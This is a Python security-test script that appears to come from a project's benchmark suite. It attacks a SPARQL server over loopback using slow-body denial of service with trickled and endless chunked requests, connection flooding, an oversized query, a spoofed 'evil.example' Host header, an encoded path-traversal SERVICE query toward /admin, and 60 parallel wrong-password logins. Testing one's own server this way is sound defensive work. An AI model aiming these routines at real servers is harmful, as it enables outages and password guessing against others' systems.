#!/usr/bin/env python3
"""The transport attacks of issue 22 against one server on loopback (bench/attack.sh runs it against ours and
against vanilla Fuseki). Slow clients come from their own loopback addresses (127.0.0.N), every client is bounded
in count and time and stops by itself. Prints one line per attack: NAME<TAB>RESULT, as attack.sh's other rows.

usage: client-attacks.py BASE_URL [--user USER:PASSWORD]"""
import socket, sys, threading, time, urllib.parse, base64, collections

BASE = sys.argv[1].rstrip('/')
HOST, PORT = urllib.parse.urlsplit(BASE).hostname, urllib.parse.urlsplit(BASE).port
MISSION = open('queries/contrastive-with-code-2022.rq').read()
LIMIT_S = 30  # no slow client lives longer


def connect(n):
    s = socket.socket()
    s.bind(('127.0.0.%d' % n, 0))
    s.settimeout(5)
    s.connect((HOST, PORT))
    return s


def status(s, wait):
    """status code of the answer on s within wait seconds; 0 when closed without one, -1 when none in time"""
    end = time.time() + wait
    data = b''
    while time.time() < end and b'\n' not in data:
        s.settimeout(max(0.05, end - time.time()))
        try:
            d = s.recv(1)
        except socket.timeout:
            continue
        except OSError:
            return 0
        if not d:
            return 0
        data += d
    try:
        return int(data.split(b' ')[1])
    except (IndexError, ValueError):
        return -1


def timed(method, path, body=None, headers=None, src=1, wait=10):
    """(status, seconds) of one request on its own connection, waiting at most wait seconds"""
    t = time.time()
    try:
        s = connect(src)
        s.settimeout(wait)
        h = {'Host': 'x', 'Connection': 'close'}
        h.update(headers or {})
        if body is not None:
            h['Content-Length'] = str(len(body))
        req = '%s %s HTTP/1.1\r\n%s\r\n' % (method, path, ''.join('%s: %s\r\n' % kv for kv in h.items()))
        s.sendall(req.encode('latin-1') + (body or b''))
        code = status(s, wait)
        s.close()
    except OSError:
        code = 0
    return code, time.time() - t


def query():
    body = ('query=' + urllib.parse.quote(MISSION)).encode()
    return timed('POST', '/survey/sparql', body, {'Content-Type': 'application/x-www-form-urlencoded',
                                                  'Accept': 'text/csv'})


def fmt(counter):
    return ' '.join('%s x%d' % (k, v) for k, v in sorted(counter.items()))


def trickle(socks, until, chunk):
    while time.time() < until:
        for s in socks:
            try:
                s.sendall(chunk)
            except OSError:
                pass
        time.sleep(0.5)


def slow_bodies(n, addresses, chunked, label):
    socks = []
    for i in range(n):
        try:
            s = connect(20 + i % addresses)
            if chunked:
                s.sendall(b'POST /survey/sparql HTTP/1.1\r\nHost: x\r\nContent-Type: application/sparql-query\r\n'
                          b'Transfer-Encoding: chunked\r\n\r\n1\r\nA\r\n')
            else:
                s.sendall(b'POST /survey/sparql HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded'
                          b'\r\nContent-Length: 100000\r\n\r\nquery=')
            socks.append(s)
        except OSError:
            pass
    start = time.time()
    t = threading.Thread(target=trickle, args=(socks, start + LIMIT_S, b'1\r\nB\r\n' if chunked else b'x'))
    t.daemon = True
    t.start()
    time.sleep(1)
    during = collections.Counter()
    for p in ('/$/ping', '/papers', '/'):
        c, sec = timed('GET', p)
        during['%s %d' % (p, c)] += 1
    qc, qs = query()
    ended = collections.Counter()
    for s in socks:
        ended[status(s, max(0.01, start + LIMIT_S - time.time()))] += 1
        s.close()
    print('%s: ping/pages during\t%s' % (label, fmt(during)))
    print('%s: mission query during (code:s)\t%d:%.2f' % (label, qc, qs))
    print('%s: the slow ones ended with (0 = closed, -1 = still open after %d s)\t%s (%.0f s)'
          % (label, LIMIT_S, fmt(ended), time.time() - start))
    t.join(1)


def per_address():
    socks = []
    for i in range(100):
        try:
            socks.append(connect(40))
        except OSError:
            break
    codes = collections.Counter(status(s, 2) for s in socks[32:])
    print('100 connections from one address: answers to the last 68\t%s' % fmt(codes))
    for s in socks:
        s.close()


def small():
    c, s = timed('GET', '/survey/sparql?query=' + 'a' * 600000)
    print('GET query of 600 kB (code:s)\t%d:%.2f' % (c, s))
    s = connect(41)
    s.sendall(b'GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n')
    head = b''
    while b'\r\n\r\n' not in head:
        d = s.recv(4096)
        if not d:
            break
        head += d
    h = head.lower()
    print('headers of / (nosniff, CSP frame-ancestors)\t%s, %s' % (
        b'x-content-type-options: nosniff' in h, b"frame-ancestors 'none'" in h))
    s = connect(41)
    s.sendall(b'GET /.well-known/void HTTP/1.1\r\nHost: evil.example:80\r\nAccept: text/turtle\r\n'
              b'Connection: close\r\n\r\n')
    s.settimeout(10)
    out = b''
    while True:
        d = s.recv(65536)
        if not d:
            break
        out += d
    print('VoID names the Host header sent\t%s' % (b'evil.example' in out))
    print('GET /static/vendor (code:s)\t%d:%.2f' % timed('GET', '/static/vendor'))
    q = urllib.parse.quote('SELECT * { SERVICE <%s/survey/sparql/%%2e%%2e/%%2e%%2e/admin> { ?s ?p ?o } }' % BASE)
    print('SERVICE .../sparql/%%2e%%2e/admin (code:s)\t%d:%.2f' % timed('GET', '/survey/sparql?query=' + q))


def logins(user):
    if not user:
        print('60 wrong passwords at once: checked (401) / refused (429)\tn/a')
        return
    name = user.split(':')[0]
    codes = collections.Counter()
    lock = threading.Lock()

    def guess(i):
        auth = base64.b64encode(('%s:guess%d' % (name, i)).encode()).decode()
        c, _ = timed('POST', '/survey/update', b'CLEAR DEFAULT', {'Authorization': 'Basic ' + auth,
                                                                 'Content-Type': 'application/sparql-update'}, 100 + i, 60)
        with lock:
            codes[c] += 1
    ts = [threading.Thread(target=guess, args=(i,)) for i in range(60)]
    for t in ts:
        t.start()
    for t in ts:
        t.join(60)
    print('60 wrong passwords at once: checked (401) / refused (429)\t%s' % fmt(codes))


user = sys.argv[3] if len(sys.argv) > 3 and sys.argv[2] == '--user' else None
small()
per_address()
slow_bodies(6, 1, False, '6 trickled Content-Length bodies')
slow_bodies(200, 10, True, '200 never-ending chunked bodies')
logins(user)
print('alive afterwards (ping, mission query)\t%d, %d' % (timed('GET', '/$/ping')[0], query()[0]))
